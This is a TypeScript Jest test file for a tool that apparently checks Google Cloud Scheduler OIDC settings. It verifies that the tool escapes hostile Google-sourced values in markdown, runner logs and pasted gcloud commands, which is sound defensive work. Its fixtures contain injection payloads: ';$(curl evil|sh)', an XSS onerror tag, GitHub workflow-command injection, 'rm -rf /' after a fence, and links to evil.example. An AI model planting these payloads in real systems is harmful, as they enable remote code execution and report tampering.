/**
 * Text that comes from Google is data in every medium it is shown in: markdown text, inline code,
 * fenced blocks, the runner log and the shell commands a person pastes. Each hostile value a person
 * can put in a field Google lets them set (audience, URI, description, custom audiences, error
 * messages, debugInfo) is run through each medium's escaping, then through a whole report.
 */
import { afterEach, describe, expect, it, jest } from '@jest/globals'
import { actionLogger } from '../../src/action/logger'
import { buildOutcome } from '../../src/engine/outcome'
import type { Observed } from '../../src/engine/observe'
import { plan } from '../../src/engine/plan'
import type { AttemptResult } from '../../src/engine/testrun'
import type { Job } from '../../src/google/types'
import { gcloud, schedulerRemedies, shellQuote } from '../../src/remedies'
import { logLine, mdBlock, mdCode, mdText } from '../../src/render/escape'
import { renderMarkdown } from '../../src/render/markdown'
import { readSettings } from '../../src/settings'
import { service } from '../../src/targets/service'
import { block, mentions, parseBlocks, pipesOf, rendered, runShell, splitCodeSpans, unescaped, unsafeHtml, unsafeMarkup } from '../fixtures/markdown'
import { AGENT, JOB, MEMBER, NUM, P, R, RUN_HASH_URL, SA, SVC } from '../fixtures/names'
import { iamPolicy, serviceTarget } from '../fixtures/targets'

/** The values, each named by what it tries. */
const HOSTILE: [string, string][] = [
  ['a workflow command after a newline', 'x\n::warning::pwned'],
  ['a CRLF and a mask command', 'x\r\n::add-mask::y'],
  ['an image', '![img](https://evil.example/p.png)'],
  ['a link', '[click](https://evil.example)'],
  ['a mention', '@admin please'],
  ['our sticky comment marker', '<!-- scheduler-oidc-doctor:CI:check -->'],
  ['raw HTML', '<img src=x onerror=alert(1)>'],
  ['backtick runs', 'a`b``c'],
  ['a table cell', '| col |'],
  ['a command substitution', ';$(curl evil|sh)'],
  ['single quotes', "'quote'"]
]
/** Line breaks markdown or the runner could take as the end of a line, folded to a space. */
const fold = (v: string): string => v.replace(/\r\n|[\r\n\u2028\u2029\u0085]/g, ' ')

describe('mdText: markdown text (table cells, causes, errors)', () => {
  it.each<[string, string]>([
    ...HOSTILE,
    // GitHub links a mention after any non-word character (html-pipeline's MentionFilter: `(?:^|\W)@login`).
    ['a mention after a hyphen', 'x -@admin please'],
    ['a mention after a dot', 'x.@admin please'],
    ['a mention after a plus', 'x+@admin please'],
    ['a mention after an escaped character', '_@admin \\@admin `@admin'],
    ['a line separator', 'x\u2028::warning::pwned\u2029y\u0085z'],
    ['an entity', '&lt;img src=x&gt; &#60;b&#62;']
  ])('%s', (_, v) => {
    const out = mdText(v)
    // One line, wherever it is put.
    expect(out).not.toMatch(/[\r\n\u2028\u2029\u0085]/)
    // No markup left once its escapes are taken out: no HTML, brackets, code, emphasis or cell border.
    expect(unescaped(out)).not.toMatch(/[<>[\]`*_~|]/)
    expect(out).not.toMatch(/&(?!(amp|lt|gt|quot);)/)
    // No mention in what a reader sees: an @ after a non-word character is followed by U+2060.
    expect(mentions(rendered(out))).toEqual([])
    // And nothing lost: the reader sees the value, its line breaks as spaces.
    expect(rendered(out).replace(/\u2060/g, '')).toBe(fold(v))
    // In a table row, the value stays in its cell.
    expect(pipesOf(`| ${out} | next |`)).toBe(3)
  })

  it('an address keeps its @: no mention starts after a word character', () => {
    expect(mdText(`held by serviceAccount:${SA()}`)).toBe(`held by serviceAccount:${SA()}`)
  })
})

describe('through a GFM renderer', () => {
  const HOSTILE = '![x](https://e.example/i.png) [docs](https://evil.example) <img src=x onerror=alert(1)> <!-- marker --> <script>x</script>'

  it('the check sees every piece of markup a raw value makes', async () => {
    expect(await unsafeHtml(`| a | ${HOSTILE} |\n|---|---|\n`)).toEqual(
      expect.arrayContaining(['an HTML comment', '<img>', '<script>', 'a link to https://evil.example shown as docs'])
    )
  })

  it('escaped, the same value renders as text; bare addresses autolink as themselves', async () => {
    expect(await unsafeHtml(`${mdText(HOSTILE)} https://ok.example/x a@b.iam.gserviceaccount.com`)).toEqual([])
  })
})

describe('mdCode: inline code (job, target and execution names, debugInfo)', () => {
  it.each<[string, string]>([...HOSTILE, ['a backtick at each end', '`a`'], ['only backticks', '```'], ['a pipe after a backslash', 'a\\|b']])('%s', (_, v) => {
    const out = mdCode(v)
    // Exactly one span, and nothing of the value outside it.
    const { text, spans } = splitCodeSpans(`before ${out} after`)
    expect(spans).toHaveLength(1)
    expect(text).toBe('before   after')
    // The span shows the value as it is (inline code is never put in a table cell: cells use mdText).
    expect(spans[0]).toBe(fold(v))
  })
})

describe('mdBlock: fenced blocks (commands, diffs)', () => {
  it.each<[string, string]>([...HOSTILE, ['a fence of its own', '```'], ['a longer fence', '````\n```sh'], ['a fence after a newline', 'x\n```\nrm -rf /']])(
    '%s',
    (_, v) => {
      const lines = ['# j1: OIDC audience', `gcloud x ${v}`, `- audience: ${v}`]
      const out = mdBlock('sh', lines)
      const { blocks, outside } = parseBlocks(`before\n\n${out}\n\nafter`)
      // The block ends where it should: the value cannot close it early.
      expect(blocks).toHaveLength(1)
      expect(blocks[0]).toMatchObject({ lang: 'sh', closed: true })
      expect(blocks[0].lines.join('\n')).toBe(lines.join('\n'))
      expect(outside).toEqual(['before', '', '', 'after'])
      const runs = (v.match(/`+/g) ?? []).map(r => r.length)
      expect(blocks[0].fence.length).toBeGreaterThan(Math.max(2, ...runs))
    }
  )
})

describe('logLine: the runner log', () => {
  /** The runner reads a workflow command from the start of any line (\n, \r or \r\n ends one). */
  const commandLines = (log: string): string[] => log.split(/\r\n|\r|\n/).filter(l => l.startsWith('::'))

  it.each<[string, string]>([...HOSTILE, ['a line separator', 'x\u2028::warning::pwned']])('%s', (_, v) => {
    const line = `error j1: OIDC audience: ${logLine(v)}`
    expect(line.split(/\r\n|\r|\n/)).toHaveLength(1)
    expect(commandLines(line)).toEqual([])
  })

  describe('through the action logger', () => {
    const written: string[] = []
    afterEach(() => {
      jest.restoreAllMocks()
      delete process.env.RUNNER_DEBUG
      written.length = 0
    })
    const capture = () =>
      jest.spyOn(process.stdout, 'write').mockImplementation(((chunk: string | Uint8Array) => {
        written.push(String(chunk))
        return true
      }) as typeof process.stdout.write)

    it.each(HOSTILE)("%s: info, debug and group lines start no command but the logger's own", async (_, v) => {
      process.env.RUNNER_DEBUG = '1'
      capture()
      const log = actionLogger()
      log.info(`error j1: OIDC audience: ${v}`)
      log.debug(() => `attempt body: ${v}`)
      await log.group('Test run', async () => log.info(`j1: attempt returned 401: ${v}`))
      const out = written.join('')
      // The logger's own commands, and none from the value.
      expect(commandLines(out).map(l => /^::([a-z-]+)::/.exec(l)?.[1])).toEqual(['debug', 'group', 'endgroup'])
      // The value is still in the log, on one line.
      expect(out).toContain(`j1: attempt returned 401: ${logLine(v)}\n`)
    })
  })
})

describe('shell: every value is one word of the command a person pastes', () => {
  const SHELL: [string, string][] = [
    ...HOSTILE,
    ['a touch in $(…)', ';$(touch /tmp/pwned-escape-test)'],
    ['a touch in backticks', '`touch /tmp/pwned-escape-test`'],
    ['a variable', '$HOME ${PATH}'],
    ['globs and a tilde', '~ * ?'],
    ['a quote and a backslash', "a'b\\"],
    ['an empty value', ''],
    ['a newline then a command', 'x\nevil'],
    ['an ampersand and a redirect', 'a & evil > /tmp/pwned-escape-test']
  ]
  const ref = { project: P, location: R, id: 'j1' }

  it.each(SHELL)('%s: one word, nothing run', (_, v) => {
    const r = runShell(`gcloud ${shellQuote(v)}`)
    expect(r).toEqual({ gcloud: [[v]], ran: [] })
  })

  it.each(SHELL)('%s: in the commands the report prints, with --project', (_, v) => {
    const commands = [
      schedulerRemedies.setOidc(ref, SA(), v),
      schedulerRemedies.setUri(ref, v),
      service.grantCommand(serviceTarget({ name: SVC('svc') }), v, 'roles/run.invoker'),
      gcloud(P, ['run', 'services', 'describe', v], { region: R, format: v })
    ]
    const r = runShell(commands.join('\n'))
    expect(r.ran).toEqual([])
    expect(r.gcloud).toEqual([
      ['scheduler', 'jobs', 'update', 'http', 'j1', '--project', P, '--location', R, '--oidc-service-account-email', SA(), '--oidc-token-audience', v],
      ['scheduler', 'jobs', 'update', 'http', 'j1', '--project', P, '--location', R, '--uri', v],
      ['run', 'services', 'add-iam-policy-binding', 'svc', '--project', P, '--region', R, '--role', 'roles/run.invoker', '--member', v],
      ['run', 'services', 'describe', v, '--project', P, '--region', R, '--format', v]
    ])
  })
})

// ---- a whole report ---------------------------------------------------------------------------

describe('the markup check finds what unescaped values would do', () => {
  it.each<[string, string, RegExp]>([
    ['raw HTML', 'Cause: <img src=x onerror=alert(1)>.', /^< in:/],
    ['a marker', 'Cause: <!-- scheduler-oidc-doctor:CI:check -->.', /^< in:/],
    ['a link', 'Cause: [click](https://evil.example).', /^\[ \] in:/],
    ['a mention', 'Cause: x @admin please.', /^mention of admin/],
    ['a mention after a hyphen', 'Cause: x -@admin please.', /^mention of admin/],
    ['a code span closed early', 'Scheduler says: `a`b`.', /^` in:/],
    ['a split cell', '| ❌ | OIDC audience | a | b | c | d |', /^a table row of 7 pipes/],
    ['a split cell inside code', '| ❌ | OIDC audience | `a|b` | c | d |', /^a table row of 7 pipes/],
    ['an unclosed block', '```sh\ngcloud x\n``', /^unclosed ```sh block/]
  ])('%s', (_, md, finding) => {
    expect(unsafeMarkup(md)).toEqual([expect.stringMatching(finding)])
  })

  it('and passes what is escaped, in code or in a block', () => {
    expect(unsafeMarkup(`Cause: ${mdText('<img> [a](b) @admin `x`')}; says ${mdCode('<img> `x`')}.\n\n${mdBlock('diff', ['- a: <!-- x --> ```'])}`)).toEqual([])
  })
})

describe('a report over hostile values in every field a person sets', () => {
  const MARKER = '<!-- scheduler-oidc-doctor:CI:check -->'
  const H = {
    audience: `https://x.run.app/\n::warning::pwned ![img](https://evil.example/p.png) @admin please ${MARKER} a\`b\`\`c | col |`,
    custom: ";$(curl evil|sh) 'quote' x\r\n::add-mask::y",
    uri: 'https://evil.example/[click](https://evil.example)?q=<img src=x onerror=alert(1)>&n=@admin please',
    ingress: '<img src=x onerror=alert(1)> @admin please',
    targetError: `(403) PERMISSION_DENIED x\r\n::add-mask::y ${MARKER} [click](https://evil.example) @admin please`,
    debugInfo: 'a`b``c <img src=x onerror=alert(1)> @admin please ![img](https://evil.example/p.png)',
    attemptError: `x\n::warning::pwned | col | @admin please ${MARKER}`,
    execError: '![img](https://evil.example/p.png) ;$(curl evil|sh) @admin please <img src=x onerror=alert(1)>',
    description: `DESCRIPTION @admin please ${MARKER}`
  }
  const job = (id: string, uri: string, audience?: string, account = SA()): Job => ({
    name: JOB(id),
    description: H.description,
    schedule: '0 3 * * *',
    state: 'ENABLED',
    httpTarget: { uri, httpMethod: 'POST', oidcToken: { serviceAccountEmail: account, ...(audience !== undefined ? { audience } : {}) } }
  })
  const svc = serviceTarget({ name: SVC('svc'), customAudiences: [H.custom], policy: iamPolicy({ role: 'roles/run.invoker', members: [MEMBER(SA())] }) })
  const svc2 = serviceTarget({ name: SVC('svc2'), ingress: H.ingress })
  const jobs: [Job, { target?: string; targetError?: string }][] = [
    // An audience no target accepts: the finding, the diff.
    [job('j1', RUN_HASH_URL('svc'), H.audience), { target: svc.name }],
    // A custom audience the job uses, another account: the command sets that audience.
    [job('j2', RUN_HASH_URL('svc'), H.custom, SA('other')), { target: svc.name }],
    // A URI the target does not serve.
    [job('j3', H.uri, H.audience), { target: svc.name }],
    // A target that could not be read: the error is the remedy.
    [job('j4', H.uri), { targetError: H.targetError }],
    // An ingress value of the target's, and an empty audience (the URI).
    [job('j5', `${RUN_HASH_URL('svc2')}/p`, ''), { target: svc2.name }]
  ]
  const observed: Observed = {
    project: { id: P, number: NUM },
    projectPolicy: iamPolicy({ role: 'roles/cloudscheduler.serviceAgent', members: [MEMBER(AGENT)] }),
    jobs: jobs.map(([j, t]) => ({ name: j.name, job: j, ...t })),
    targets: { [svc.name]: svc, [svc2.name]: svc2 },
    hierarchy: { ancestors: [], deny: [], notes: [] },
    accounts: {}
  }
  const inputs: Record<string, string> = { job: 'j1,j2,j3,j4,j5', project_id: P, region: R, invoker_service_account: SA() }
  const s = readSettings(n => inputs[n] ?? '', {})
  const p = plan(observed, s)
  const attempts: AttemptResult[] = [
    { job: JOB('j1'), httpStatus: 401, inferred: false, runs: 1, passed: false, debugInfo: H.debugInfo },
    { job: JOB('j2'), inferred: false, runs: 1, passed: false, error: H.attemptError },
    {
      job: JOB('j5'),
      httpStatus: 200,
      inferred: false,
      runs: 1,
      passed: false,
      execution: {
        name: `projects/${P}/locations/${R}/jobs/etl/executions/etl-x`,
        state: 'EXECUTION_FAILED',
        succeeded: false,
        running: false,
        error: H.execError
      }
    }
  ]
  const o = buildOutcome(s, p, undefined, attempts, undefined)
  const md = renderMarkdown(o)

  it('the plan carries the values (the report is really tested on them)', () => {
    const findings = p.jobs.flatMap(j => j.checks.map(c => `${c.found} ${c.remedy ?? ''} ${c.command ?? ''}`)).join('\n')
    for (const v of [H.audience, H.custom, H.uri, H.ingress, H.targetError]) expect(findings).toContain(v)
    expect(o.jobs.map(j => j.result)).toEqual(['failed', 'failed', 'failed', 'failed', 'failed'])
  })

  it('outside code, nothing acts as markup: no raw <, marker, link, image, stray backtick, mention or split cell', () => {
    expect(unsafeMarkup(md)).toEqual([])
    const { blocks, outside } = parseBlocks(md)
    expect(blocks.map(b => b.lang)).toEqual(['sh', 'diff'])
    // The report's own fold (<details>/<summary> around the passing checks) is the only raw HTML.
    const text = outside.map(l => splitCodeSpans(l.replace(/^<details><summary>(.*)<\/summary>$/, '$1').replace(/^<\/details>$/, '')).text).join('\n')
    expect(text).not.toContain('<')
    expect(text).not.toContain('<!-- scheduler-oidc-doctor')
    expect(text).not.toMatch(/(?<!\\)\]\(/)
    expect(text).not.toMatch(/!(?<!\\)\[(?!\\)/)
    // Every @ that came from Google is followed by U+2060 (service account addresses keep theirs).
    expect((text.match(/@(?!\u2060)[a-z]+/g) ?? []).filter(m => m !== '@my')).toEqual([])
    expect(text.match(/@\u2060admin/g)?.length).toBeGreaterThanOrEqual(6)
  })

  it('the values are still there for the reader', () => {
    const seen = rendered(parseBlocks(md).outside.join('\n')).replace(/\u2060/g, '')
    for (const v of [H.audience, H.uri, H.targetError, H.attemptError, H.execError]) expect(seen).toContain(fold(v))
    expect(md).toContain('```a`b``c <img src=x onerror=alert(1)> @admin please ![img](https://evil.example/p.png)```')
    // The job description is shown nowhere.
    expect(md).not.toContain('DESCRIPTION')
  })

  it('the diff shows what was there as one line, inside its block', () => {
    const diff = block(md, 'diff')
    expect(diff.closed).toBe(true)
    expect(diff.lines).toContain(`- audience: ${fold(H.audience)}`)
  })

  it('the commands: shell-quoted, with --project, each once; run, they do what they say and nothing else', () => {
    const sh = block(md, 'sh')
    const r = runShell(sh.lines.join('\n'))
    expect(r.ran).toEqual([])
    expect(r.gcloud.length).toBe(sh.lines.filter(l => l.startsWith('gcloud ')).length)
    for (const argv of r.gcloud) expect(argv.slice(argv.indexOf('--project'), argv.indexOf('--project') + 2)).toEqual(['--project', P])
    expect(new Set(r.gcloud.map(a => JSON.stringify(a))).size).toBe(r.gcloud.length)
    // j2 keeps its custom audience: the value is one argument, exactly.
    expect(r.gcloud).toContainEqual([
      'scheduler',
      'jobs',
      'update',
      'http',
      'j2',
      '--project',
      P,
      '--location',
      R,
      '--oidc-service-account-email',
      SA(),
      '--oidc-token-audience',
      H.custom
    ])
    const commands = [...new Set(p.jobs.flatMap(j => j.checks.filter(c => c.severity !== 'ok' && c.command).map(c => c.command!)))]
    expect(commands.length).toBeGreaterThanOrEqual(4)
    for (const c of commands) expect(md.split(c).length - 1).toBe(1)
  })
})
